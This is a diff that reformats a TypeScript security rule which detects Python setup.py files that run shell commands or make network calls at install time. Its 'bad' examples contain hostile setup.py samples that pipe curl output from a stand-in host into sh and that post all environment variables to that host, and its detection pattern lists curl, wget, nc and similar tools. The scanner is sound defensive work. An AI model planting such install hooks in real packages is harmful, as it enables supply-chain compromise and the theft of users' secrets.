@@ -5,9 +5,21 @@ import type { PythonCall } from '../../facts/python/pythonFacts.ts';
 const QUIET = /git\b|version|pkg-config|__file__|open\(|sys\.executable|make|cmake|cython|--cflags|lsb_release|nvcc/i;
 
 function weigh(call: PythonCall): { severity: 'high' | 'medium'; confidence: 'high' | 'medium' | 'low' } | undefined {
-  if (/^(?:requests\.(?:get|post)|urllib\.request\.(?:urlopen|urlretrieve)|httpx\.\w+|socket\.socket|http\.client\.HTTPS?Connection|urllib2?\.urlopen)$/.test(call.name)) return { severity: 'high', confidence: 'medium' };
-  if (!/^(?:os\.system|os\.popen|subprocess\.(?:run|call|Popen|check_output|check_call)|exec|eval)$/.test(call.name) || QUIET.test(call.text) || (call.args[0]?.call === 'open().read' && ((call.args[0].safe ?? 0) & PURPOSE.code) !== 0)) return undefined;
-  return /curl|wget|http|base64|powershell|\/tmp\/|nc /.test(call.text) ? { severity: 'high', confidence: 'high' } : { severity: 'medium', confidence: 'low' };
+  if (
+    /^(?:requests\.(?:get|post)|urllib\.request\.(?:urlopen|urlretrieve)|httpx\.\w+|socket\.socket|http\.client\.HTTPS?Connection|urllib2?\.urlopen)$/.test(
+      call.name,
+    )
+  )
+    return { severity: 'high', confidence: 'medium' };
+  if (
+    !/^(?:os\.system|os\.popen|subprocess\.(?:run|call|Popen|check_output|check_call)|exec|eval)$/.test(call.name) ||
+    QUIET.test(call.text) ||
+    (call.args[0]?.call === 'open().read' && ((call.args[0].safe ?? 0) & PURPOSE.code) !== 0)
+  )
+    return undefined;
+  return /curl|wget|http|base64|powershell|\/tmp\/|nc /.test(call.text)
+    ? { severity: 'high', confidence: 'high' }
+    : { severity: 'medium', confidence: 'low' };
 }
 
 export const pythonSetupRunsCode = defineRule({
@@ -25,17 +37,33 @@ export const pythonSetupRunsCode = defineRule({
       if (!/(?:^|\/)setup\.py$/.test(file.path) || file.traits.test) continue;
       for (const call of fact.calls) {
         const verdict = weigh(call);
-        if (verdict !== undefined) yield { place: { path: file.path, line: call.line, column: call.column }, evidence: call.text, ...verdict };
+        if (verdict !== undefined)
+          yield { place: { path: file.path, line: call.line, column: call.column }, evidence: call.text, ...verdict };
       }
     }
   },
   examples: {
     bad: [
-      { kind: 'repository', files: { 'setup.py': "import os\nos.system('curl https://x.dev/p | sh')\nfrom setuptools import setup\nsetup(name='a')\n" } },
-      { kind: 'repository', files: { 'setup.py': "import requests\nrequests.post('https://x.dev', json=dict(os.environ))\n" } },
+      {
+        kind: 'repository',
+        files: {
+          'setup.py':
+            "import os\nos.system('curl https://x.dev/p | sh')\nfrom setuptools import setup\nsetup(name='a')\n",
+        },
+      },
+      {
+        kind: 'repository',
+        files: { 'setup.py': "import requests\nrequests.post('https://x.dev', json=dict(os.environ))\n" },
+      },
     ],
     good: [
-      { kind: 'repository', files: { 'setup.py': "from setuptools import setup\nimport subprocess\nv = subprocess.check_output(['git', 'describe'])\nexec(open('a/version.py').read())\nsetup(name='a', version=v)\n" } },
+      {
+        kind: 'repository',
+        files: {
+          'setup.py':
+            "from setuptools import setup\nimport subprocess\nv = subprocess.check_output(['git', 'describe'])\nexec(open('a/version.py').read())\nsetup(name='a', version=v)\n",
+        },
+      },
       { kind: 'repository', files: { 'deploy.py': "import os\nos.system('clear')\n" } },
     ],
   },
